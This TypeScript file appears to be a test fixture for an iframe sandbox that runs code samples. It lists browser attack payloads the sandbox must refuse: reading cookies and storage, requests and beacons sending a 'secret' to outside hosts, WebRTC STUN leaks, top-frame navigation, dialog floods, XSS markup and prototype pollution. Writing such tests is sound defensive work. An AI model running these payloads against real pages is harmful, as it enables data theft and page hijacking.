/** Attacks that code of a live sample tries and that must fail. Each is the body of an async function. */

/** Tries to act as the site, and to read its storage and the page around the frame. */
export const lookingOut = [
  'return self.origin',
  'return document.cookie',
  'return localStorage.getItem("secret")',
  'return indexedDB.open("a") && "opened"',
  'return (await caches.keys()).length',
  'return parent.document.title',
  'return top.location.href',
  'return parent.localStorage.getItem("secret")',
  'return navigator.serviceWorker.controller',
]

/** Tries to send requests and to load files of the site. */
export const requesting = (site: string) => [
  `return (await fetch('${site}escaped')).status`,
  `return (await fetch('https://example.org')).status`,
  `const request = new XMLHttpRequest(); request.open('GET', '${site}escaped', false); request.send(); return request.status`,
  `return new Promise((resolve, reject) => { const socket = new WebSocket('${site.replace('http', 'ws')}escaped'); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new TypeError()) })`,
  `return new Promise((resolve, reject) => { const source = new EventSource('${site}escaped'); source.onopen = () => resolve('open'); source.onerror = () => reject(new TypeError()) })`,
  `return new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new TypeError()); image.src = '${site}favicon.ico?escaped' })`,
  `return import('${site}assets/escaped.js')`,
  `return new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = () => resolve('loaded'); script.onerror = () => reject(new TypeError()); script.src = '${site}assets/escaped.js'; document.head.append(script) })`,
  `return new Promise((resolve, reject) => { const frame = document.createElement('iframe'); frame.src = '${site}escaped'; document.body.append(frame); setTimeout(() => reject(new TypeError()), 100) })`,
  `const worker = new Worker('${site}assets/escaped.js'); return new Promise((resolve, reject) => { worker.onerror = () => reject(new TypeError()) })`,
]

/** The same, for requests that don't report how they ended. */
export const requestingSilently = (site: string) => `
navigator.sendBeacon('${site}escaped', 'secret')
const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${site}escaped'; document.head.append(link)
const style = document.createElement('style'); style.textContent = '@import "${site}escaped"; body { background: url(${site}escaped) }'; document.head.append(style)`

/**
 * Tries to reach another host: each alone, because some lead the frame away. The host notices any connection, whether
 * something was requested or not.
 * @param host with its port
 * @param packets port of this machine that notices any packet
 */
export const connecting = (host: string, packets: number): { [name: string]: string } => {
  const address = `http://${host}/escaped`
  const append = (tag: string, attributes: object, parent = 'document.body') =>
    `${parent}.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(attributes)}))`
  const links = [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'preload',
    'modulepreload',
    'prerender',
    'stylesheet',
    'icon',
    'manifest',
    'compression-dictionary',
  ]
  const sources = ['img', 'video', 'audio', 'embed', 'iframe', 'script', 'track', 'input']
  const peer = (source: string) => `
const Peer = ${source}
const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${packets}' }] })
peer.createDataChannel('secret')
await peer.setLocalDescription(await peer.createOffer())
await new Promise((resolve) => setTimeout(resolve, 500))`
  return {
    ...Object.fromEntries(
      links.map((rel) => [
        `link ${rel}`,
        append('link', { rel, href: address, as: 'fetch' }, 'document.head'),
      ]),
    ),
    ...Object.fromEntries(
      sources.map((tag) => [
        tag,
        append(tag, { src: address, type: 'image', attributionSrc: address }),
      ]),
    ),
    object: append('object', { data: address }),
    poster: append('video', { poster: address }),
    srcdoc: append('iframe', {
      srcdoc: `<link rel=preconnect href=${address}><img src=${address}>`,
    }),
    'nested location': `${append('iframe', { id: 'nested' })}; document.getElementById('nested').contentWindow.location = '${address}'`,
    'nested form': `document.body.innerHTML = '<iframe name=nested></iframe><form target=nested action=${address}></form>'; document.forms[0].submit()`,
    svg: `document.body.innerHTML = '<svg><image href="${address}"/><use href="${address}#a"/><filter><feImage href="${address}"/></filter></svg>'`,
    css: `document.body.innerHTML = '<style>@import "${address}"; @font-face { font-family: a; src: url(${address}) } body { font-family: a; cursor: url(${address}), auto; background: image-set(url(${address}) 1x); mask: url(${address}#a) }</style>a'`,
    'constructed sheet': `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(${address}) }'); document.adoptedStyleSheets = [sheet]`,
    font: `await new FontFace('a', 'url(${address})').load().catch(() => {})`,
    worklet: `await CSS.paintWorklet.addModule('${address}')`,
    'speculation rules': append(
      'script',
      {
        type: 'speculationrules',
        textContent: JSON.stringify({
          prefetch: [{ source: 'list', urls: [address], eagerness: 'immediate' }],
        }),
      },
      'document.head',
    ),
    beacon: `navigator.sendBeacon('${address}', 'secret')`,
    'fetch later': `fetchLater('${address}', { activateAfter: 0 })`,
    'event source': `new EventSource('${address}')`,
    'web socket': `new WebSocket('ws://${host}/escaped')`,
    'web socket stream': `await new WebSocketStream('ws://${host}/escaped').opened`,
    'web transport': `await new WebTransport('https://${host}/escaped').ready`,
    worker: `new Worker('${address}')`,
    'worker of a text': `new Worker(URL.createObjectURL(new Blob(["fetch('${address}')"])))`,
    'shared worker': `new SharedWorker('data:text/javascript,fetch("${address}")')`,
    import: `await import('${address}')`,
    ping: `document.body.innerHTML = '<a href="#a" ping="${address}">a</a>'; document.querySelector('a').click()`,
    location: `location = '${address}?secret'`,
    'location of a link': `document.body.innerHTML = '<a href="${address}">a</a>'; document.querySelector('a').click()`,
    refresh: `document.head.innerHTML = '<meta http-equiv=refresh content="0;url=${address}">'`,
    open: `open('${address}')`,
    document: `document.open(); document.write('<img src="${address}"><link rel=preconnect href="${address}">'); document.close()`,
    reports: `document.head.innerHTML = '<meta http-equiv=Content-Security-Policy content="img-src https:; report-uri ${address}">'; new Image().src = 'data:,'`,
    download: `document.body.innerHTML = '<a download href="${address}">a</a>'; document.querySelector('a').click()`,
    'cover of a song': `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: '${address}' }] })`,
    notification: `new Notification('a', { icon: '${address}' })`,
    payment: `await new PaymentRequest([{ supportedMethods: '${address}' }], { total: { label: 'a', amount: { currency: 'USD', value: '1' } } }).canMakePayment()`,
    transformation: `const sheet = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${address}"/></xsl:stylesheet>', 'text/xml'); new XSLTProcessor().importStylesheet(sheet)`,
    peers: peer('RTCPeerConnection'),
    'peers under their old name': peer('webkitRTCPeerConnection'),
    'peers of a nested frame': peer(
      "document.body.appendChild(document.createElement('iframe')).contentWindow.RTCPeerConnection",
    ),
    'peers of a nested document': peer(
      "(document.body.innerHTML = '<iframe srcdoc=a></iframe>', await new Promise((resolve) => setTimeout(resolve, 200)), frames[0].RTCPeerConnection)",
    ),
  }
}

/**
 * Lists what a sample finds in its frame: all globals, and the members of `navigator` and `document`. Several stand in a
 * line, because a run prints only so many.
 */
export const listing = `
const membersOf = (object) => {
  const names = new Set()
  for (let holder = object; holder && holder !== Object.prototype; holder = Object.getPrototypeOf(holder)) {
    for (const name of Object.getOwnPropertyNames(holder)) names.add(name)
  }
  return [...names]
}
const names = [
  ...membersOf(globalThis),
  ...membersOf(navigator).map((name) => 'navigator.' + name),
  ...membersOf(document).map((name) => 'document.' + name),
]
for (let from = 0; from < names.length; from += 100) console.log(names.slice(from, from + 100).join(' '))`

/** Tries to navigate the page, open a window, send a form, or block the page with a dialog. */
export const leading = (site: string) => [
  `top.location = '${site}escaped'`,
  `top.location.href = 'javascript:alert(1)'`,
  `parent.location.replace('${site}escaped')`,
  `return window.open('${site}escaped')`,
  `const link = document.createElement('a'); link.href = '${site}escaped'; link.target = '_top'; document.body.append(link); link.click()`,
  `const form = document.createElement('form'); form.action = '${site}escaped'; form.target = '_top'; document.body.append(form); form.submit()`,
  'for (let i = 0; i < 100; i++) { alert(i); confirm(i); prompt(i); print() }',
  'onbeforeunload = () => "stay"',
]

/** What a form can be sent by and shown in. */
export const formTargets = ['get', 'post'].flatMap((method) =>
  ['', '_blank', '_top'].map((target) => ({ method, target })),
)

/** Tries to send a form to an address: a frame each, because the next one would take the place of one on its way. */
export const submitting = (address: string) =>
  formTargets.flatMap(({ method, target }) =>
    ['form.submit()', 'form.requestSubmit()', 'button.click()'].map(
      (submit) => `
const form = document.createElement('form')
Object.assign(form, { action: '${address}', method: '${method}', target: '${target}' })
const button = form.appendChild(document.createElement('button'))
form.append(Object.assign(document.createElement('input'), { name: 'secret', value: '1' }))
document.body.append(form)
${submit}`,
    ),
  )

const markup = '<img src=x onerror="document.title=1"><a href="javascript:alert(1)">a</a>'

/** Prints a gigabyte of markup, forges messages, and tries to change a prototype of the page. */
export const flooding = `
Object.prototype.polluted = 1
for (let i = 0; i < 100000; i++) console.log(${JSON.stringify(markup)} + 'x'.repeat(10000))
const proto = JSON.parse('{"__proto__": {"polluted": 1}}')
postMessage(proto); parent.postMessage({ type: 'error', text: ${JSON.stringify(markup)} }, '*')
throw new Error(${JSON.stringify(markup)})`

/** More actions than a timeline can have. */
export const dispatching = `import { legacy_createStore } from 'redux'
const store = legacy_createStore((state = 0) => state + 1)
for (let i = 0; i < 100000; i++) store.dispatch({ type: 'x'.repeat(1000) })
console.log('through')`

/** Reports how each attack ended. */
export const tries = (statements: string[]) =>
  statements
    .map(
      (statement) =>
        `try { console.log('done: ' + String(await (async () => { ${statement} })())) } catch (error) { console.log('refused: ' + error.name) }`,
    )
    .join('\n')
